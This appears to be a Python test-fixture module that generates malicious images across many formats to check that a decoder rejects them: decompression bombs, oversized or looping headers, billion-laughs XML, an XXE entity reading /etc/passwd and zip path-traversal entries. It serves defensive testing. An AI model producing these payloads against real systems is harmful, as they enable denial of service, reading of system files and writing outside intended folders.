"""Pictures made to do harm: they unpack to much, claim much, point in circles, or lead elsewhere."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import crafted_boxes as boxes
import numpy as np
from PIL import Image

_PNG = b"\x89PNG\r\n\x1a\n"
_MOST_SIDE = 30_000
_ZEROS = 300_000_000


def crafted(kind: str) -> list[bytes]:
    """Those of a format; none where mutating finds all there is."""
    return [make() for make in _MAKERS.get(kind, ())]


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _png(*between: bytes, size: tuple[int, int] = (4, 4), colour: int = 2, pixels: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", *size, 8, colour, 0, 0, 0)
    packed = pixels or zlib.compress(bytes(4 * (1 + 4 * 3)))
    parts = (_chunk(b"IHDR", head), *between, _chunk(b"IDAT", packed), _chunk(b"IEND", b""))
    return _PNG + b"".join(parts)


def _packed_zeros(count: int = _ZEROS) -> bytes:
    squeezing = zlib.compressobj(9)
    piece = bytes(1_000_000)
    return b"".join(squeezing.compress(piece) for _ in range(count // len(piece))) + squeezing.flush()


def _png_profile_bomb() -> bytes:
    return _png(_chunk(b"iCCP", b"a\0\0" + _packed_zeros()))


def _png_text_bomb() -> bytes:
    return _png(
        _chunk(b"zTXt", b"a\0\0" + _packed_zeros()), _chunk(b"iTXt", b"a\0\1\0\0\0" + _packed_zeros())
    )


def _png_pixel_bomb() -> bytes:
    """4 × 4 pixels, packed with 300 MB."""
    return _png(pixels=_packed_zeros())


def _png_of_nothing() -> bytes:
    """200 megapixels of RGBA are claimed, none is there."""
    return _png(size=(_MOST_SIDE, 6666), colour=6, pixels=zlib.compress(b""))


def _png_too_large() -> bytes:
    return _png(size=(_MOST_SIDE + 1, 1))


def _png_many_chunks() -> bytes:
    return _png(*[_chunk(b"tEXt", b"a\0b")] * 200_000)


def _png_frames_without_end() -> bytes:
    frames = _chunk(b"acTL", struct.pack(">II", 0xFFFFFFFF, 0))
    return _png(
        frames, *[_chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 4, 4, 0, 0, 1, 1, 0, 0)) for n in range(999)]
    )


def _saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def _jpeg_of_nothing() -> bytes:
    """A progressive picture of 16 megapixels is claimed, whose end is there at once."""
    made = bytearray(_saved(Image.new("RGB", (64, 64)), "jpeg", progressive=True))
    at = made.index(b"\xff\xc2")
    made[at + 5 : at + 9] = struct.pack(">HH", 4000, 4000)
    return bytes(made)


def _jpeg_many_scans() -> bytes:
    """Each scan of a progressive picture goes over all of its pixels again."""
    made = _saved(Image.new("L", (500, 500)), "jpeg", progressive=True)
    scan = made.rindex(b"\xff\xda")
    return made[:scan] + made[scan:-2] * 200_000 + made[-2:]


def _jpeg_profile_in_circles() -> bytes:
    made = _saved(Image.new("RGB", (8, 8)), "jpeg")
    marker = b"\xff\xe2" + struct.pack(">H", 20) + b"ICC_PROFILE\0\x01\xff" + bytes(4)
    return made[:2] + marker * 300 + made[2:]


def _gif_many_frames() -> bytes:
    made = _saved(Image.new("P", (16, 16)), "gif")
    frame = made[made.index(b"\x2c") : -1]
    return made[:-1] + frame * 200_000 + b";"


def _gif_large_screen() -> bytes:
    made = bytearray(_saved(Image.new("P", (16, 16)), "gif"))
    made[6:10] = struct.pack("<HH", _MOST_SIDE, 500)
    return bytes(made)


def _tiff(*tags: tuple[int, int, int, int], next_at: int = 0) -> bytes:
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + body + struct.pack("<I", next_at) + bytes(64)


_TIFF_TAGS = ((256, 4, 1, 4), (257, 4, 1, 4), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1))


def _tiff_in_circles() -> bytes:
    """Its directory is followed by itself."""
    return _tiff(*_TIFF_TAGS, (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 4), (279, 4, 1, 16), next_at=8)


def _tiff_many_strips() -> bytes:
    """A thousand million strips, all of them said to lie somewhere in its few bytes."""
    many = 1_000_000_000
    return _tiff(*_TIFF_TAGS, (273, 4, many, 8), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, many, 8))


def _tiff_of_nothing() -> bytes:
    tags = ((256, 4, 1, 8000), (257, 4, 1, 8000), (258, 3, 1, 16), (259, 3, 1, 8), (262, 3, 1, 1))
    return _tiff(*tags, (273, 4, 1, 150), (277, 3, 1, 1), (278, 4, 1, 8000), (279, 4, 1, 20))


def _bmp_of_nothing() -> bytes:
    """Run lengths, of a large picture, that end after nothing."""
    head = struct.pack("<IiiHHIIiiII", 40, 8000, 8000, 1, 8, 1, 0, 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", 0, 0, 0, 54 + 1024) + head + bytes(1024) + b"\0\1"


def _webp_large() -> bytes:
    """16 megapixels in a few bytes."""
    return _saved(Image.new("RGB", (4000, 4000)), "webp", quality=1)


def _ora(entries: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "image/openraster")
        for name, data in entries.items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _ora_bomb() -> bytes:
    return _ora({"mergedimage.png": _png()[:40] + bytes(_ZEROS)})


def _ora_stack_of_entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    stack = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}<!ENTITY f SYSTEM "file:///etc/passwd">]><image>&l9;&f;</image>'
    return _ora({"stack.xml": stack.encode(), "mergedimage.png": _png()})


def _ora_leads_elsewhere() -> bytes:
    return _ora({"../../../tmp/escaped.png": _png(), "/etc/escaped.png": _png(), "data/layer0.png": _png()})


def _ora_many_entries() -> bytes:
    return _ora({f"data/{n}": b"" for n in range(60_000)} | {"mergedimage.png": _png()})


def _psd(channels: int, height: int, width: int, packing: int, rest: bytes) -> bytes:
    head = struct.pack(">4sH6xHIIHH", b"8BPS", 1, channels, height, width, 8, 3)
    return head + struct.pack(">III", 0, 0, 0) + struct.pack(">H", packing) + rest


def _psd_of_nothing() -> bytes:
    """Every row of a large picture is said to be empty."""
    return _psd(3, 8000, 8000, 1, bytes(2 * 3 * 8000))


def _psd_long_rows() -> bytes:
    """Runs that go far beyond the end of their row."""
    counts = struct.pack(">H", 60_000) * 30
    return _psd(3, 10, 10, 1, counts + b"\x81\0" * 900_000)


def _psd_many_resources() -> bytes:
    resources = (b"8BIM" + struct.pack(">HHI", 1000, 0, 0)) * 500_000
    head = struct.pack(">4sH6xHIIHH", b"8BPS", 1, 3, 4, 4, 8, 3)
    return head + struct.pack(">II", 0, len(resources)) + resources + struct.pack(">IH", 0, 0) + bytes(48)


def _svg_of_entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]><svg>&l9;</svg>'.encode()


def _svg_packed() -> bytes:
    squeezing = zlib.compressobj(9, wbits=31)
    start = squeezing.compress(b"<svg>")
    return start + b"".join(squeezing.compress(bytes(1_000_000)) for _ in range(300)) + squeezing.flush()


def _tiff_tiles_of_a_pixel() -> bytes:
    count, size = 300 * 300, ((256, 4, 1, 300), (257, 4, 1, 300))
    tiles = ((322, 4, 1, 1), (323, 4, 1, 1), (324, 4, count, 134), (325, 4, count, 134))
    grey = ((258, 3, 1, 16), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1))
    return _tiff(*size, *grey, *tiles) + struct.pack(f"<{count}I", *[2] * count)


def _tiff_many_pages() -> bytes:
    made = bytearray(b"II*\0\x08\0\0\0")
    for _ in range(15_000):
        page = struct.pack("<H", 3) + b"".join(struct.pack("<HHII", *tag) for tag in _TIFF_TAGS[:3])
        made += page + struct.pack("<I", len(made) + len(page) + 4)
    return bytes(made)


def _tiff_many_samples() -> bytes:
    return _tiff(*_TIFF_TAGS, (273, 4, 1, 8), (277, 3, 1, 65_535), (278, 4, 1, 4), (279, 4, 1, 16))


def _tiff_long_tags() -> bytes:
    strips = ((273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 4), (279, 4, 1, 16))
    return _tiff(*_TIFF_TAGS, *strips, (270, 2, 0x7FFFFFFF, 8), (34675, 7, 0xFFFFFFF0, 8))


def _ora_unpacked_with(method: int, *, dictionary: bytes = b"") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "image/openraster")
        archive.writestr("mergedimage.png", _png()[:40] + bytes(30_000_000), method)
    made = bytearray(out.getvalue())
    if dictionary:  # how much memory LZMA is to take
        at = made.index(b"\x5d\0\0")
        made[at + 1 : at + 5] = dictionary
    return bytes(made)


def _jpeg_filled() -> bytes:
    """Markers may be filled with bytes that mean nothing."""
    made = _saved(Image.new("RGB", (8, 8)), "jpeg")
    return made[:2] + b"\xff" * 500_000 + made[2:]


def _jpeg_many_blocks() -> bytes:
    made = _saved(Image.new("RGB", (8, 8)), "jpeg")
    return made[:2] + b"\xff\xed\0\x10Photoshop 3.0\0" * 100_000 + made[2:]


def _raw_in_circles() -> bytes:
    return _tiff((330, 4, 1_000_000_000, 8), next_at=8)


def _noise_that_ends(kind: str) -> Callable[[], bytes]:
    """The right beginning, and then noise."""

    def make() -> bytes:
        image = Image.fromarray(np.random.default_rng(3).integers(0, 256, (64, 64, 3)).astype(np.uint8))
        noise = np.random.default_rng(4).integers(0, 256, 2_000_000).astype(np.uint8).tobytes()
        return _saved(image, kind)[:200] + noise

    return make


_MAKERS: dict[str, tuple[Callable[[], bytes], ...]] = {
    "png": (
        *(_png_profile_bomb, _png_text_bomb, _png_pixel_bomb, _png_of_nothing, _png_too_large),
        *(_png_many_chunks, _png_frames_without_end),
    ),
    "jpeg": (
        *(_jpeg_of_nothing, _jpeg_many_scans, _jpeg_profile_in_circles, _noise_that_ends("jpeg")),
        *(_jpeg_filled, _jpeg_many_blocks),
    ),
    "gif": (_gif_many_frames, _gif_large_screen, _noise_that_ends("gif")),
    "tiff": (
        *(_tiff_in_circles, _tiff_many_strips, _tiff_of_nothing, _noise_that_ends("tiff")),
        *(_tiff_tiles_of_a_pixel, _tiff_many_pages, _tiff_many_samples, _tiff_long_tags),
    ),
    "bmp": (_bmp_of_nothing, _noise_that_ends("bmp")),
    "webp": (_webp_large, _noise_that_ends("webp")),
    "avif": (_noise_that_ends("avif"), boxes.avif_grid_of_itself),
    "heic": (
        *(
            boxes.heic_nested,
            boxes.heic_of_many_items,
            boxes.heic_grid_of_itself,
            boxes.heic_grids_of_each_other,
        ),
        *(boxes.heic_grids_in_grids, boxes.heic_overlay_of_itself, boxes.heic_derived_from_itself),
    ),
    "psd": (_psd_of_nothing, _psd_long_rows, _psd_many_resources),
    "ora": (
        *(_ora_bomb, _ora_stack_of_entities, _ora_leads_elsewhere, _ora_many_entries),
        *(lambda: _ora_unpacked_with(zipfile.ZIP_LZMA), lambda: _ora_unpacked_with(zipfile.ZIP_BZIP2)),
        lambda: _ora_unpacked_with(zipfile.ZIP_LZMA, dictionary=b"\xff\xff\xff\xff"),
    ),
    "svg": (_svg_of_entities, _svg_packed),
    "raw": (_raw_in_circles,),
}
